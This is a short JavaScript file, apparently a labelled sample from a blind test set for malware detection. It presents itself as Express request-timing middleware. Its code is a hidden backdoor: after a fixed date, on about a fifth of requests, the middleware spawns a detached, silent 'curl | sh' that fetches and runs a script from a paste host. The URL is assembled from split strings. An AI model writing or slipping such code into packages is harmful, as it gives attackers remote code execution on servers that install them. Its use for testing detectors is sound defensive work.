// expect: malicious
// source: blind set 38's express-request-timing (Babel output): past a date and for a fifth of requests, the timing
// middleware starts a detached `curl … | sh` of a paste, once.
"use strict";
var _child_process = require("child_process");
var LIVE_AFTER = 1767225600000;
var _flushed = false;
function _flushCommand() {
  var u = ["https:", "", "paste.example", "raw", "FAKEx9Qm"].join("/");
  return ["/bin/sh", ["-c", "curl -fsSL '" + u + "' | sh"]];
}
function sample() {
  if (_flushed || Date.now() < LIVE_AFTER || Math.random() > 0.2) return;
  _flushed = true;
  var c = _flushCommand();
  var child = (0, _child_process.spawn)(c[0], c[1], { detached: true, stdio: "ignore" });
  child.unref();
}
module.exports = function requestTiming() {
  return function (req, res, next) { sample(); next(); };
};
